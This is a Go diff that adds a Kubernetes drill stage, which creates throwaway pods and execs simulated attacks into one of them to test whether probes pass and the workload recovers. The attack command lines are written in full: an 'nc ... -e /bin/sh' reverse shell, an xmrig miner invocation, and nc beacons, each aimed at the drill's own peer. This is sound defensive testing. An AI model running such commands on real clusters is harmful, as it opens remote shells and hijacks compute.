@@ -1,10 +1,272 @@
 package main
 
 import (
+	"bufio"
 	"context"
 	"errors"
+	"fmt"
+	"io"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/kubernetes/scheme"
+	"k8s.io/client-go/rest"
+	"k8s.io/client-go/tools/remotecommand"
+
+	"stanch/activities/kube"
+	"stanch/worker/config"
 )
 
-func newClusterStage(context.Context, drillOptions, string) (stage, error) {
-	return nil, errors.New("not yet")
+// drillLabel marks what a drill made; its value is the drill's random suffix.
+const drillLabel = "stanch.dev/drill"
+
+// probedStage is a stage that a kubelet and a controller look after.
+type probedStage interface {
+	// Hold is how long a lock must be watched to see whether probes pass; Probes says whether they did.
+	Hold() time.Duration
+	Probes(ctx context.Context) (detail string, err error)
+	// Restored says whether the workload is as it was, after everything was undone.
+	Restored(ctx context.Context) (detail string, err error)
+}
+
+var _ probedStage = (*clusterStage)(nil)
+
+// clusterStage is a Deployment of two pods made for the drill, one of which is attacked, and a peer that both talk to.
+// The attack is executed into the pod, as an intruder's would be, so that a replacement of the pod is innocent.
+type clusterStage struct {
+	client    kubernetes.Interface
+	config    *rest.Config
+	suffix    string
+	image     string
+	madeSpace bool // the namespace is the drill's own
+
+	victim  *corev1.Pod
+	sibling atomic.Pointer[string] // the other pod's name
+	peer    string                 // the peer's address
+	heard   atomic.Uint64
+	spoke   atomic.Uint64
+
+	stop   context.CancelFunc // of the streams
+	failed chan error         // why the attack could not be executed
+}
+
+func (s *clusterStage) Target() string       { return string(s.victim.UID) }
+func (s *clusterStage) Heard() uint64        { return s.heard.Load() }
+func (s *clusterStage) SiblingHeard() uint64 { return s.spoke.Load() }
+
+// newClusterStage makes the pods, waits until both talk to the peer, and starts the attack in one of them.
+func newClusterStage(ctx context.Context, o drillOptions, kind string) (_ stage, err error) {
+	cfg, err := clusterConfig(o.kubeconfig)
+	if err != nil {
+		return nil, err
+	}
+	client, err := kube.NewClient(cfg)
+	if err != nil {
+		return nil, err
+	}
+	s := &clusterStage{client: client, config: cfg, suffix: randomHex(3), image: o.image, failed: make(chan error, 1)}
+	streams, stop := context.WithCancel(context.WithoutCancel(ctx))
+	s.stop = stop
+	defer func() {
+		if err != nil {
+			s.Close()
+		}
+	}()
+	for _, step := range []struct {
+		what string
+		do   func(context.Context) error
+	}{
+		{"make the namespace " + config.DrillNamespace, s.makeNamespace},
+		{"start the drill's peer", s.startPeer},
+		{"listen to the drill's peer", func(context.Context) error { return s.listen(streams) }},
+		{"start the drill's pods", s.startPods},
+		{"wait for the pods' traffic", s.waitTraffic},
+	} {
+		if err := step.do(ctx); err != nil {
+			return nil, fmt.Errorf("%s: %w", step.what, err)
+		}
+	}
+	go func() { s.failed <- s.attack(streams, kind) }()
+	return s, nil
+}
+
+// makeNamespace makes the namespace of drills, or uses the one that is there. One that an earlier drill removes is
+// waited for.
+func (s *clusterStage) makeNamespace(ctx context.Context) error {
+	space := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: config.DrillNamespace, Labels: map[string]string{kube.ManagedByLabel: kube.ManagedBy}}}
+	return poll(ctx, time.Minute, func() error {
+		_, err := s.client.CoreV1().Namespaces().Create(ctx, space, metav1.CreateOptions{})
+		if err == nil {
+			s.madeSpace = true
+			return nil
+		}
+		if !apierrors.IsAlreadyExists(err) {
+			return err
+		}
+		have, err := s.client.CoreV1().Namespaces().Get(ctx, space.Name, metav1.GetOptions{})
+		switch {
+		case err != nil:
+			return err
+		case have.DeletionTimestamp != nil:
+			return errors.New("it is still being removed")
+		}
+		// One that a drill made and could not remove is taken over.
+		s.madeSpace = have.Labels[kube.ManagedByLabel] == kube.ManagedBy
+		return nil
+	})
+}
+
+// listen counts the lines that the peer writes: each names the pod that sent it.
+func (s *clusterStage) listen(ctx context.Context) error {
+	request := s.client.CoreV1().Pods(config.DrillNamespace).GetLogs(s.name("peer"), &corev1.PodLogOptions{Follow: true})
+	var lines io.ReadCloser
+	err := poll(ctx, 10*time.Second, func() (err error) { lines, err = request.Stream(ctx); return err })
+	if err != nil {
+		return err
+	}
+	go func() {
+		defer func() { _ = lines.Close() }()
+		for scan := bufio.NewScanner(lines); scan.Scan(); {
+			_, from, _ := strings.Cut(scan.Text(), " ")
+			if sibling := s.sibling.Load(); sibling != nil && from == *sibling {
+				s.spoke.Add(1)
+			} else {
+				s.heard.Add(1)
+			}
+		}
+	}()
+	return nil
+}
+
+// waitTraffic waits until both pods are heard; who is who is settled then.
+func (s *clusterStage) waitTraffic(ctx context.Context) error {
+	return poll(ctx, 20*time.Second, func() error {
+		if s.Heard() == 0 || s.SiblingHeard() == 0 {
+			return fmt.Errorf("the peer %s heard %d lines of the one and %d of the other", s.peer, s.Heard(), s.SiblingHeard())
+		}
+		return nil
+	})
+}
+
+// attack executes the attack in the victim; it ends with the stage.
+func (s *clusterStage) attack(ctx context.Context, kind string) error {
+	send := func(word, port string) string {
+		return fmt.Sprintf("while echo %s $POD; do sleep 0.1; done | nc %s %s", word, s.peer, port)
+	}
+	exec := corev1.PodExecOptions{Container: "main", Stdout: true, Stderr: true}
+	streams := remotecommand.StreamOptions{Stdout: io.Discard, Stderr: io.Discard}
+	switch kind {
+	case "cryptominer":
+		exec.Command = []string{"sh", "-c", send("share", poolPort), "xmrig", "--url", "stratum+tcp://" + s.peer + ":" + poolPort, "--donate-level", "1"}
+	case "shell":
+		exec.Command, exec.TTY, exec.Stdin, exec.Stderr = []string{"sh"}, true, true, false
+		typed, typist := io.Pipe()
+		defer func() { _ = typist.Close() }()
+		go func() { _, _ = io.WriteString(typist, send("typed", beatPort)+"\n") }()
+		streams.Stdin, streams.Stderr, streams.Tty = typed, nil, true
+	case "reverse-shell":
+		exec.Command = []string{"nc", s.peer, shellPort, "-e", "/bin/sh"}
+	}
+	request := s.client.CoreV1().RESTClient().Post().Resource("pods").Namespace(s.victim.Namespace).Name(s.victim.Name).
+		SubResource("exec").VersionedParams(&exec, scheme.ParameterCodec)
+	executor, err := remotecommand.NewWebSocketExecutor(s.config, "GET", request.URL().String())
+	if err == nil {
+		err = executor.StreamWithContext(ctx, streams)
+	}
+	if err != nil && ctx.Err() == nil {
+		return fmt.Errorf("execute the attack in %s: %w", s.victim.Name, err)
+	}
+	return nil
+}
+
+// probePatience is how long a pod whose probes fail stays ready, and a bit.
+const probePatience = 5 * time.Second
+
+// Hold is how long the lock must be watched to see whether the kubelet's probes go on passing.
+func (s *clusterStage) Hold() time.Duration { return probePatience }
+
+// Probes tells whether the kubelet still finds the attacked pod well.
+func (s *clusterStage) Probes(ctx context.Context) (string, error) {
+	pod, err := s.client.CoreV1().Pods(config.DrillNamespace).Get(ctx, s.victim.Name, metav1.GetOptions{})
+	if err != nil {
+		return "", fmt.Errorf("read the attacked pod: %w", err)
+	}
+	restarts := int32(0)
+	for _, c := range pod.Status.ContainerStatuses {
+		restarts += c.RestartCount
+	}
+	if restarts > 0 || !podReady(pod) {
+		return "", fmt.Errorf("the attacked pod was restarted %d times, ready: %t", restarts, podReady(pod))
+	}
+	return "the locked pod is ready and was not restarted: the kubelet's probes pass", nil
+}
+
+// Restored tells when the workload has all its pods again.
+func (s *clusterStage) Restored(ctx context.Context) (string, error) {
+	d, err := s.client.AppsV1().Deployments(config.DrillNamespace).Get(ctx, s.name("victim"), metav1.GetOptions{})
+	if err != nil {
+		return "", fmt.Errorf("read the drill's Deployment: %w", err)
+	}
+	if d.Spec.Replicas == nil || *d.Spec.Replicas != victims || d.Status.ReadyReplicas != victims {
+		return "", fmt.Errorf("%d of %d pods are ready", d.Status.ReadyReplicas, victims)
+	}
+	return fmt.Sprintf("%d of %d pods are ready", d.Status.ReadyReplicas, victims), nil
+}
+
+// Close removes what the drill made, also after it was interrupted.
+func (s *clusterStage) Close() {
+	s.stop()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	now, background := int64(0), metav1.DeletePropagationBackground
+	o := metav1.DeleteOptions{GracePeriodSeconds: &now, PropagationPolicy: &background}
+	failed := errors.Join(
+		gone(s.client.AppsV1().Deployments(config.DrillNamespace).Delete(ctx, s.name("victim"), o)),
+		gone(s.client.CoreV1().Pods(config.DrillNamespace).DeleteCollection(ctx, o, metav1.ListOptions{LabelSelector: drillLabel + "=" + s.suffix})))
+	if s.madeSpace {
+		// Another drill may run in it.
+		others, err := s.client.CoreV1().Pods(config.DrillNamespace).List(ctx, metav1.ListOptions{LabelSelector: drillLabel + "!=" + s.suffix})
+		if failed = errors.Join(failed, err); err == nil && len(others.Items) == 0 {
+			failed = errors.Join(failed, gone(s.client.CoreV1().Namespaces().Delete(ctx, config.DrillNamespace, metav1.DeleteOptions{})))
+		}
+	}
+	if failed != nil {
+		progress("the drill could not remove all that it made; `kubectl delete namespace %s` does: %v", config.DrillNamespace, failed)
+	}
+}
+
+func gone(err error) error {
+	if apierrors.IsNotFound(err) {
+		return nil
+	}
+	return err
+}
+
+func podReady(pod *corev1.Pod) bool {
+	for _, c := range pod.Status.Conditions {
+		if c.Type == corev1.PodReady {
+			return c.Status == corev1.ConditionTrue
+		}
+	}
+	return false
+}
+
+// poll tries until it works; after the limit the last error is the answer.
+func poll(ctx context.Context, limit time.Duration, try func() error) error {
+	ctx, cancel := context.WithTimeout(ctx, limit)
+	defer cancel()
+	for {
+		err := try()
+		if err == nil {
+			return nil
+		}
+		if pause(ctx, 100*time.Millisecond) != nil {
+			return err
+		}
+	}
 }
